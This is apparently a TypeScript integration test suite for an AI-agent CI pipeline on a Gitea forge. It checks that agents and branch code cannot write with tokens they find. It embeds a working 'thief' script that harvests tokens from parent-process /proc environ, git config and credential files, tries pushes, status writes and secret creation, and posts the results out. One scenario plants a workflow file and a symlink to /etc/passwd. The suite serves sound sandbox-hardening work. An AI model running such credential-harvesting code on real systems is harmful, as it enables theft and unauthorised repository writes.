import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { TRAILS_ISSUE } from '../../examples/trails/create.ts';
import type { Account } from '../stack/gitea.ts';
import { gitEnv, type Stack, startStackOrSkip } from '../stack/stack.ts';
import { eventually } from './eventually.ts';
import { type World, buildRelease, createWorld } from './world.ts';

const run = promisify(execFile);
const LEDGER = 'conveyor/ledger';

/**
 * Branch code that wants to write: collects whatever could be a token from its own environment, from that of every process
 * above it, from git's configuration and from the files of the job, and tries each one on everything an item is made of.
 * Arguments: where to report, the forge, the repository, the folders to search, a name for the report.
 */
const THIEF = `import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const [report, forge, repository, name, ...more] = process.argv.slice(2);
const found = new Map();
const take = (where, text) => {
  for (const word of text.split(/[\\s"'=:,;]+/)) if (/^[A-Za-z0-9._+/-]{20,}$/.test(word) && !word.startsWith('/')) found.set(word.slice(0, 4096), where);
};
const named = (where, block) => {
  for (const entry of block.split('\\0')) if (/TOKEN|SECRET|PASSWORD|KEY|AUTH/i.test(entry.split('=')[0] ?? '')) take(where + ' ' + entry.split('=')[0], entry.slice(entry.indexOf('=') + 1));
};
for (const [key, value] of Object.entries(process.env)) named('own environment', key + '=' + value);
// The processes above: the agent's wrapper has the job's token, because it reads with it.
for (let pid = process.ppid; pid > 1;) {
  try {
    named('environment of a process above', readFileSync('/proc/' + pid + '/environ', 'utf8'));
    const stat = readFileSync('/proc/' + pid + '/stat', 'utf8');
    pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
  } catch {
    break;
  }
}
take('git config', spawnSync('git', ['config', '--list', '--show-origin'], { encoding: 'utf8' }).stdout ?? '');
const search = (folder, depth) => {
  let names = [];
  try {
    names = readdirSync(folder);
  } catch {
    return;
  }
  for (const entry of names) {
    const path = join(folder, entry);
    try {
      const stats = statSync(path);
      if (stats.isDirectory() && depth > 0 && !['node_modules', 'objects', 'docs', 'src'].includes(entry)) search(path, depth - 1);
      // What looks like a credential of git, of the forge or of the runner; documents hold long words, too.
      else if (stats.isFile() && stats.size < 200_000 && /config|credential|token|netrc|event|env|plan|\\.json$/i.test(entry)) take(path, readFileSync(path, 'utf8').split('\\n').filter((line) => /token|secret|password|authorization|extraheader/i.test(line)).join('\\n'));
    } catch {
      // Gone meanwhile or not ours to read.
    }
  }
};
for (const folder of more) search(folder, 4);
search(join(process.cwd(), '..'), 4);

const api = async (token, method, path, body) => {
  const headers = { 'content-type': 'application/json', ...(token === '' ? {} : { authorization: 'token ' + token }) };
  const answer = await fetch(forge + '/api/v1/repos/' + repository + path, { method, headers, ...(body === undefined ? {} : { body: JSON.stringify(body) }) });
  return answer.status;
};
const read = async (token, path) => {
  const answer = await fetch(forge + '/api/v1/repos/' + repository + path, { headers: { authorization: 'token ' + token } });
  return answer.ok ? await answer.json() : null;
};
const folder = mkdtempSync(join(tmpdir(), 'thief-'));
const git = (token, args) => {
  const header = 'Authorization: Basic ' + Buffer.from('x-access-token:' + token).toString('base64');
  const env = { PATH: process.env.PATH, HOME: folder, GIT_TERMINAL_PROMPT: '0', GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'http.extraHeader', GIT_CONFIG_VALUE_0: header, GIT_AUTHOR_NAME: 'bot', GIT_AUTHOR_EMAIL: 'b@example.test', GIT_COMMITTER_NAME: 'bot', GIT_COMMITTER_EMAIL: 'b@example.test' };
  return spawnSync('git', args, { cwd: folder, env, encoding: 'utf8' });
};
git('', ['init', '--quiet', '.']);
git('', ['commit', '--quiet', '--allow-empty', '--message', 'stolen']);

const answers = [];
for (const [token, where] of [['', 'no token'], ...found]) {
  const branches = (await read(token, '/branches?limit=50')) ?? [];
  const head = branches[0]?.commit?.id ?? '0'.repeat(40);
  const targets = [...new Set(['main', '${LEDGER}', 'stolen', ...branches.map((branch) => branch.name)])];
  const tried = {
    status: await api(token, 'POST', '/statuses/' + head, { context: 'ci / test (push)', state: 'success', description: 'stolen' }),
    dispatch: await api(token, 'POST', '/actions/workflows/conveyor-control.yml/dispatches', { ref: 'main', inputs: { command: 'cancel', item: 'ET-1', reason: 'stolen' } }),
    pull: await api(token, 'POST', '/pulls', { head: targets.find((target) => target.startsWith('feature/')) ?? 'main', base: 'main', title: 'stolen' }),
    comment: await api(token, 'POST', '/issues', { title: 'stolen' }),
    secret: await api(token, 'PUT', '/actions/secrets/STOLEN', { data: 'stolen' }),
    variable: await api(token, 'POST', '/actions/variables/STOLEN', { value: 'stolen' }),
  };
  for (const target of targets) {
    tried['contents ' + target] = await api(token, 'POST', '/contents/stolen-' + target.replaceAll('/', '-') + '.txt', { branch: target === 'stolen' ? 'main' : target, ...(target === 'stolen' ? { new_branch: 'stolen' } : {}), content: '', message: 'stolen' });
    for (const force of ['', '+']) {
      const pushed = git(token, ['push', forge + '/' + repository + '.git', force + 'HEAD:refs/heads/' + target]);
      tried['push ' + force + target] = pushed.status === 0 ? 'accepted' : 'refused: ' + pushed.stderr.replace(/\\s+/g, ' ').slice(0, 400);
    }
  }
  answers.push({ where, reads: branches.length > 0, tried });
}
await fetch(report, { method: 'POST', body: JSON.stringify({ name, answers }) });
`;

interface Attempt {
  readonly where: string;
  /** The token was good for reading the private repository. */
  readonly reads: boolean;
  readonly tried: Readonly<Record<string, number | string>>;
}
const accepted = ({ tried }: Attempt) =>
  Object.entries(tried).filter(([, answer]) => answer === 'accepted' || (typeof answer === 'number' && answer < 400));

const DOCUMENTS = `  - match: {role: analyst}
    do:
      - write: {path: "{WI}/01-brd.md", file: fixtures/package/01-brd.md}
      - write: {path: "{WI}/02-trz.md", file: fixtures/package/02-trz.md}
      - write: {path: "{WI}/03-acceptance-criteria.md", file: fixtures/package/03-acceptance-criteria.md}
      - write: {path: "{WI}/04-test-plan.yaml", file: fixtures/package/04-test-plan.yaml}
  - match: {role: architect}
    do: [{write: {path: "{WI}/06-adr/ADR-001-format-in-a-pure-module.md", file: fixtures/package/ADR-001-format-in-a-pure-module.md}}]
`;
const CODE = `      - write: {path: server.mjs, file: fixtures/round-1/server.mjs.txt}
      - write: {path: src/csv.mjs, file: fixtures/round-2/csv.mjs.txt}
      - write: {path: test/csv.test.mjs, file: fixtures/round-2/csv.test.mjs.txt}
      - write: {path: docs/architecture/README.md, file: fixtures/round-1/architecture.md}
      - write: {path: docs/overview/README.md, file: fixtures/round-1/overview.md}
      - write: {path: "changelog.d/{ID}.md", file: fixtures/round-1/fragment.md}
`;
const HELD_REVIEW = `  - match: {role: reviewer}
    do: [{artifact: {file: 12-review.md, verdict: APPROVED}}]
`;

describe('rights on the real forge', () => {
  let stack: Stack | null = null;
  let actions = { repository: '', ref: '' };
  let folder = '';
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'conveyor-rights-'));
    stack = await startStackOrSkip({ fetchIntervalS: 1, runners: [{ capacity: 4 }] });
    if (stack === null) return;
    using release = await buildRelease();
    actions = await stack.publishActions(release.folder);
  });
  afterAll(async () => {
    await stack?.[Symbol.asyncDispose]();
    rmSync(folder, { recursive: true, force: true });
  });

  const startItem = (world: World): string => {
    const issue = world.plane.createIssue({ name: TRAILS_ISSUE.title, description: TRAILS_ISSUE.description });
    world.plane.moveIssue('ada', issue.id, 'To Analyse');
    return issue.id;
  };
  const approve = async (world: World, issue: string) => {
    const item = await world.until('ET-1', 'waiting for approval', ({ waitingFor }) => waitingFor === 'approval', 300);
    world.plane.moveIssue('ada', issue, 'Approved');
    return item;
  };
  const tip = async (world: World, branch: string) =>
    (
      await world.stack.forge.call<{ commit: { id: string } }>(
        'GET',
        `/repos/${world.repository.fullName}/branches/${encodeURIComponent(branch)}`,
      )
    ).commit.id;

  it.concurrent('G-2, AG-SEC-1, AG-SEC-3: an agent that tries every token it finds writes nothing: no push, no status, no dispatch; the item goes on unharmed', async (context) => {
    if (stack === null) return context.skip();
    await using reports = await startReports();
    await using world = await createWorld(stack, actions, 'thief', {
      private: true,
      scenarioText: `version: 1\nsteps:\n${DOCUMENTS}  - match: {role: developer}\n    expect: {env_lacks: [GITHUB_TOKEN, GITEA_TOKEN, ACTIONS_RUNTIME_TOKEN, CONVEYOR_BOT_TOKEN, "INPUT_FORGE-TOKEN"]}\n    do:\n      - run: {argv: [node, tools/thief.mjs, "${reports.url}", "${stack.url}", "${stack.owner.login}/thief", agent]}\n${CODE}${HELD_REVIEW}`,
      files: {
        'tools/thief.mjs': THIEF,
        // The same program in a job of anybody's, with the job's read-only token handed to it on purpose.
        '.gitea/workflows/given.yml': `name: given
run-name: given
on:
  workflow_dispatch:
jobs:
  given:
    runs-on: ubuntu-latest
    permissions:
      contents: read
    steps:
      - env:
          TOKEN: \${{ github.token }}
        run: |
          auth="$(printf 'x-access-token:%s' "$TOKEN" | base64 | tr -d '\\n')"
          git -c "http.extraHeader=Authorization: Basic $auth" clone -q --depth 1 "$GITHUB_SERVER_URL/$GITHUB_REPOSITORY.git" code
          cd code
          node tools/thief.mjs ${reports.url} "$GITHUB_SERVER_URL" "$GITHUB_REPOSITORY" given
`,
      },
    });
    const issue = startItem(world);
    await approve(world, issue);
    const main = await tip(world, 'main');
    const agent = await reports.next('agent', 300);
    const withJobToken = agent.filter(({ reads }) => reads);
    expect(
      agent.find(({ where }) => where.startsWith('own environment')),
      'no token in its own environment',
    ).toBeUndefined();
    expect(
      withJobToken.length,
      `it found the read-only token of the job above it: ${agent.map(({ where }) => where).join(', ')}`,
    ).toBeGreaterThan(0);
    for (const attempt of agent) expect(accepted(attempt), attempt.where).toEqual([]);
    for (const { tried } of withJobToken)
      expect(tried).toMatchObject({ status: 403, dispatch: 403, [`contents ${LEDGER}`]: 403, 'contents main': 403 });

    const item = await world.until(
      'ET-1',
      'past development',
      ({ stage }) => !['analysis', 'architecture', 'development'].includes(stage),
      300,
    );
    expect(item.hold).toBeNull();

    const given = await world.dispatch('given.yml', {});
    const ended = await stack.forge.waitForRun(world.repository.fullName, given, { timeoutS: 240 });
    expect(ended.conclusion, await stack.forge.runLog(world.repository.fullName, given)).toBe('success');
    const direct = await reports.next('given', 60);
    expect(direct.filter(({ reads }) => reads).length).toBeGreaterThan(0);
    for (const attempt of direct) expect(accepted(attempt), attempt.where).toEqual([]);
    const [token] = direct.filter(({ reads, where }) => reads && where.includes('TOKEN'));
    expect(token?.tried).toMatchObject({
      status: 403,
      dispatch: 403,
      [`contents ${LEDGER}`]: 403,
      'contents main': 403,
      'contents stolen': 403,
    });
    for (const target of ['push +main', `push +${LEDGER}`, 'push stolen'])
      expect(String(token?.tried[target]), target).toMatch(/denied|not allowed|permission|403|hook declined/i);

    expect(await tip(world, 'main')).toBe(main);
    const branches = await stack.forge.call<{ name: string }[]>('GET', `/repos/${world.repository.fullName}/branches`);
    expect(branches.map(({ name }) => name)).not.toContain('stolen');
    const commits = await stack.forge.call<{ commit: { message: string } }[]>(
      'GET',
      `/repos/${world.repository.fullName}/commits?sha=${encodeURIComponent(LEDGER)}&limit=50`,
    );
    expect(commits.map(({ commit }) => commit.message).filter((message) => message.includes('stolen'))).toEqual([]);
    expect(
      (await stack.forge.runs(world.repository.fullName)).filter(({ workflow }) => workflow === 'conveyor-control.yml'),
    ).toEqual([]);
  });

  it.concurrent('the same program with a token that may write succeeds: its attempts are real', async (context) => {
    if (stack === null) return context.skip();
    await using reports = await startReports();
    const repository = await stack.createRepository({
      name: 'open',
      files: new Map([
        [
          '.gitea/workflows/conveyor-control.yml',
          'name: c\non:\n  workflow_dispatch:\n    inputs:\n      command: {type: string}\n      item: {type: string}\n      reason: {type: string}\njobs:\n  c:\n    runs-on: nobody\n    steps: [{run: "true"}]\n',
        ],
      ]),
    });
    const file = join(folder, 'thief.mjs');
    writeFileSync(file, THIEF);
    const work = mkdtempSync(join(folder, 'empty-'));
    await run(process.execPath, [file, reports.url, stack.url, repository.fullName, 'owner'], {
      cwd: mkdtempSync(join(work, 'in-')),
      env: { PATH: process.env['PATH'], HOME: work, TMPDIR: work, MY_TOKEN: stack.owner.token },
    });
    const attempts = await reports.next('owner', 30);
    const own = attempts.find(({ where }) => where.includes('MY_TOKEN'));
    expect(own?.reads).toBe(true);
    expect(Object.fromEntries(accepted(own as Attempt))).toMatchObject({
      status: 201,
      dispatch: 204,
      comment: 201,
      'contents stolen': 201,
      'push +main': 'accepted',
      [`push ${LEDGER}`]: 'accepted',
    });
    expect(accepted(attempts.find(({ where }) => where === 'no token') as Attempt)).toEqual([]);
  });

  it.concurrent('O-FRG-13, design §3: nobody but the bot writes the ledger branch, by no way; the bot only appends', async (context) => {
    if (stack === null) return context.skip();
    await using world = await createWorld(stack, actions, 'ledger');
    const issue = startItem(world);
    await world.until(
      'ET-1',
      'waiting for approval, with every effect done',
      ({ waitingFor, outbox }) => waitingFor === 'approval' && outbox.length === 0,
      300,
    );
    // As strong as a person can be without being the bot.
    await stack.forge.addCollaborator(world.repository.fullName, stack.outsider.login, 'admin');
    const before = await tip(world, LEDGER);
    const ref = `refs/heads/${LEDGER}`;
    const api = async (by: Account, method: string, path: string, body?: object) =>
      (
        await (stack as Stack).forge.api(
          `/repos/${world.repository.fullName}${path}`,
          { method, ...(body === undefined ? {} : { body: JSON.stringify(body) }) },
          by.token,
        )
      ).status;
    const state = await stack.forge.call<{ sha: string }>(
      'GET',
      `/repos/${world.repository.fullName}/contents/items/ET-1/state.json?ref=${encodeURIComponent(LEDGER)}`,
    );
    const git = async (by: Account, ...args: string[]) => {
      const clone = mkdtempSync(join(folder, 'clone-'));
      const options = { cwd: clone, env: gitEnv(by) };
      await run('git', ['clone', '--quiet', '--branch', LEDGER, world.repository.cloneUrl, '.'], options);
      if (args.includes('--force')) await run('git', ['reset', '--quiet', '--hard', 'HEAD~1'], options);
      await run('git', ['commit', '--quiet', '--allow-empty', '--message', `by ${by.login}`], options);
      return run('git', ['push', '--quiet', ...args], options).then(
        () => 'accepted',
        (thrown: { stderr?: string }) => `refused ${thrown.stderr ?? ''}`,
      );
    };
    for (const by of [stack.owner, stack.outsider, stack.admin]) {
      expect(await git(by, 'origin', `HEAD:${ref}`), `${by.login} pushes`).toMatch(/^refused/);
      expect(await git(by, '--force', 'origin', `HEAD:${ref}`), `${by.login} forces`).toMatch(/^refused/);
      expect(await git(by, 'origin', `:${ref}`), `${by.login} deletes`).toMatch(/^refused/);
      const change = {
        branch: LEDGER,
        content: Buffer.from('{}').toString('base64'),
        message: 'by hand',
        sha: state.sha,
      };
      expect(await api(by, 'PUT', '/contents/items/ET-1/state.json', change), `${by.login} writes a file`).toBe(403);
      expect(
        await api(by, 'DELETE', '/contents/items/ET-1/state.json', {
          branch: LEDGER,
          message: 'by hand',
          sha: state.sha,
        }),
        `${by.login} deletes a file`,
      ).toBe(403);
      expect(await api(by, 'DELETE', `/branches/${encodeURIComponent(LEDGER)}`), `${by.login} deletes the branch`).toBe(
        403,
      );
      expect(await tip(world, LEDGER), by.login).toBe(before);
    }
    expect(await git(stack.bot, '--force', 'origin', `HEAD:${ref}`), 'the bot rewrites').toMatch(/^refused/);
    expect(await git(stack.bot, 'origin', `:${ref}`), 'the bot deletes').toMatch(/^refused/);
    expect(await api(stack.bot, 'DELETE', `/branches/${encodeURIComponent(LEDGER)}`)).toBe(403);
    expect(await tip(world, LEDGER)).toBe(before);
    expect(await git(stack.bot, 'origin', `HEAD:${ref}`), 'the bot appends').toBe('accepted');

    // Unharmed: the next event is decided on it.
    world.plane.moveIssue('ada', issue, 'Approved');
    await world.until('ET-1', 'past analysis', ({ stage }) => stage !== 'analysis', 240);
  });

  it.concurrent('AG-APP-2, AG-APP-3, G-PRT-1: a patch outside its scope never lands: the item is held agent-failed after its tries, and the board names the paths', async (context) => {
    if (stack === null) return context.skip();
    await using world = await createWorld(stack, actions, 'scope', {
      scenarioText: `version: 1\nsteps:\n${DOCUMENTS}  - match: {role: developer}\n    do:\n${CODE}      - write: {path: .gitea/workflows/evil.yml, text: "on: push"}\n      - write: {path: docs/work-items/ET-9/01-brd.md, text: "not mine"}\n      - symlink: {path: src/out.mjs, target: /etc/passwd}\n`,
    });
    const issue = startItem(world);
    await approve(world, issue);
    const held = await world.until('ET-1', 'held', ({ hold }) => hold !== null, 400);
    expect(held).toMatchObject({ stage: 'development', hold: { code: 'agent-failed' }, counters: { developer: 0 } });
    expect(held.rounds.development, 'the first run and two more').toBe(3);
    expect(await tip(world, held.branch ?? '')).toBe(held.head);
    const tree = await stack.forge.call<{ tree: { path: string }[] }>(
      'GET',
      `/repos/${world.repository.fullName}/git/trees/${held.head}?recursive=true`,
    );
    const paths = tree.tree.map(({ path }) => path);
    expect(paths).toContain('docs/work-items/ET-1/02-trz.md');
    for (const path of ['src/csv.mjs', '.gitea/workflows/evil.yml', 'docs/work-items/ET-9/01-brd.md', 'src/out.mjs'])
      expect(paths, 'not even the good half').not.toContain(path);
    const said = () =>
      world.plane
        .comments(issue)
        .map(({ comment_html }) => comment_html)
        .join('\n');
    await eventually('the board names the workflow file', said, (text) => text.includes('.gitea/workflows/evil.yml'));
    for (const path of ['docs/work-items/ET-9/01-brd.md', 'src/out.mjs']) {
      expect(held.hold?.text).toContain(path);
      expect(said()).toContain(path);
    }
    await eventually(
      'the board shows Blocked',
      () => world.plane.stateName(issue),
      (name) => name === 'Blocked',
    );
  });

  it.concurrent('AG-SEC-2, agents regression 26: a configuration that hands the job token to the agent is refused before anything starts', async (context) => {
    if (stack === null) return context.skip();
    await using world = await createWorld(stack, actions, 'pass');
    // Somebody with the right to lift the protection puts it on main.
    await stack.forge.api(`/repos/${world.repository.fullName}/branch_protections/main`, { method: 'DELETE' });
    const clone = mkdtempSync(join(folder, 'main-'));
    const options = { cwd: clone, env: gitEnv(stack.owner) };
    await run('git', ['clone', '--quiet', world.repository.cloneUrl, '.'], options);
    const file = join(clone, '.conveyor/config.yml');
    const config = parse(readFileSync(file, 'utf8')) as { agents: object };
    writeFileSync(file, stringify({ ...config, agents: { ...config.agents, env_pass: ['GITHUB_TOKEN'] } }));
    await run('git', ['commit', '--quiet', '--all', '--message', 'hand it over'], options);
    await run('git', ['push', '--quiet', 'origin', 'HEAD:main'], options);

    startItem(world);
    const intake = await stack.forge.waitForRun(
      world.repository.fullName,
      ({ workflow }) => workflow === 'conveyor-event.yml',
      { timeoutS: 240 },
    );
    const log = await stack.forge.runLog(world.repository.fullName, intake.id);
    expect(intake.conclusion, log).toBe('failure');
    expect(log).toContain('CONFIG_INVALID');
    expect(log).toContain('agents.env_pass: "GITHUB_TOKEN" is never passed to agents or branch code: remove it');
    expect(await world.item('ET-1')).toBeNull();
    expect(
      (await stack.forge.runs(world.repository.fullName)).filter(({ workflow }) =>
        /analysis|development/.test(workflow),
      ),
    ).toEqual([]);
  });
});

/** Takes what the thief found, by the name it was started under. */
async function startReports() {
  const got = new Map<string, readonly Attempt[]>();
  const server = createServer((incoming, outgoing) => {
    void (async () => {
      const chunks: Buffer[] = [];
      for await (const chunk of incoming) chunks.push(chunk as Buffer);
      const { name, answers } = JSON.parse(Buffer.concat(chunks).toString()) as {
        name: string;
        answers: readonly Attempt[];
      };
      got.set(name, answers);
      outgoing.end();
    })();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    async next(name: string, timeoutS: number): Promise<readonly Attempt[]> {
      await eventually(`the report of ${name}`, () => got.has(name), Boolean, timeoutS);
      return got.get(name) ?? [];
    },
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}
